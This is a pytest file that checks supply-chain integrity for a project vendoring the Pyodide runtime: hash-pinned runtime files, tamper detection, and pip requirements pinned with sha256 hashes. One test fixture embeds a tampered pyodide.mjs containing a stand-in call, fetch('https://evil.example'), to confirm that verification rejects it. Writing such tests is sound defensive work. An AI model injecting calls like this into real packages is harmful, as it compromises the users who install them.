"""What the build and the install take from outside is pinned by hash: the vendored Pyodide runtime
against the npm package's recorded integrity (a tampered file stops the build), and every Python
requirement, transitive ones included, with --hash lines that make pip refuse anything else."""
import base64
import hashlib
import io
import json
import re
import shutil
import tarfile

import pytest

from tools import build, runtime_integrity
from tools.runtime_integrity import IntegrityError, verified_tarball_files

ROOT = runtime_integrity.ROOT


@pytest.fixture
def runtime_copy(tmp_path, monkeypatch):
    """A checkout whose node_modules/pyodide is a copy of the real one; the build reads it from there."""
    (tmp_path / "node_modules" / "pyodide").mkdir(parents=True)
    shutil.copy(ROOT / "package-lock.json", tmp_path)
    for name in build.PYODIDE_FILES:
        shutil.copy(ROOT / "node_modules" / "pyodide" / name, tmp_path / "node_modules" / "pyodide" / name)
    monkeypatch.setattr(build, "ROOT", tmp_path)
    return tmp_path / "node_modules" / "pyodide"


def test_the_recorded_hashes_match_the_lock_and_node_modules():
    recorded = json.loads(runtime_integrity.MANIFEST.read_text())
    assert (recorded["version"], recorded["integrity"]) == runtime_integrity.locked()
    assert set(recorded["files"]) == set(build.PYODIDE_FILES)
    runtime_integrity.check(build.PYODIDE_FILES)


@pytest.mark.parametrize("name", ["pyodide.asm.wasm", "pyodide.mjs", "python_stdlib.zip"])
def test_a_tampered_runtime_file_stops_the_build(runtime_copy, tmp_path, name):
    build.copy_runtime(tmp_path / "ok", {"__PYODIDE_VERSION__": "v"})     # the untouched copy builds
    data = bytearray((runtime_copy / name).read_bytes())
    data[len(data) // 2] ^= 1
    (runtime_copy / name).write_bytes(bytes(data))
    with pytest.raises(SystemExit, match=f"node_modules/pyodide/{re.escape(name)} is not the file of pyodide"):
        build.copy_runtime(tmp_path / "out", {"__PYODIDE_VERSION__": "v"})
    assert not (tmp_path / "out" / "vendor" / "pyodide" / "v" / name).exists()


def test_a_version_bump_without_new_hashes_stops_the_build(runtime_copy, tmp_path):
    lock = json.loads((tmp_path / "package-lock.json").read_text())
    lock["packages"]["node_modules/pyodide"]["version"] = "999.0.0"
    (tmp_path / "package-lock.json").write_text(json.dumps(lock))
    with pytest.raises(SystemExit, match="pins 999.0.0"):
        build.copy_runtime(tmp_path / "out", {"__PYODIDE_VERSION__": "v"})


def _tarball(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def test_hashes_are_recorded_only_from_a_tarball_with_the_locked_integrity():
    tarball = _tarball({"pyodide.mjs": b"export {}"})
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(tarball).digest()).decode()
    assert verified_tarball_files(tarball, integrity, ("pyodide.mjs",)) == {
        "pyodide.mjs": hashlib.sha256(b"export {}").hexdigest()}
    other = _tarball({"pyodide.mjs": b"export {}; fetch('https://evil.example')"})
    with pytest.raises(IntegrityError, match="does not match"):
        verified_tarball_files(other, integrity, ("pyodide.mjs",))


def test_every_python_requirement_is_pinned_with_hashes_and_installed_with_them():
    lines = (ROOT / "requirements-dev.txt").read_text().splitlines()
    tokens = " ".join(line for line in lines if not line.lstrip().startswith("#")).replace("\\", " ").split()
    hashes: dict[str, int] = {}
    requirement = ""  # the requirement the hashes that follow belong to
    for token in tokens:
        if token.startswith("--hash="):
            assert re.fullmatch(r"--hash=sha256:[0-9a-f]{64}", token), token
            hashes[requirement] += 1
        else:
            assert re.fullmatch(r"[A-Za-z0-9_.-]+==[0-9][A-Za-z0-9.]*", token), token
            requirement = token
            hashes[requirement] = 0
    assert hashes and all(hashes.values()), [r for r, n in hashes.items() if not n]
    names = {requirement.split("==")[0].lower() for requirement in hashes}
    direct = {line.split("==")[0].lower() for line in (ROOT / "requirements-dev.in").read_text().splitlines()
              if line and not line.startswith("#")}
    assert direct <= names and {"pluggy", "greenlet", "execnet"} <= names   # transitive ones too
    assert "--require-hashes -r requirements-dev.txt" in (ROOT / "Makefile").read_text()
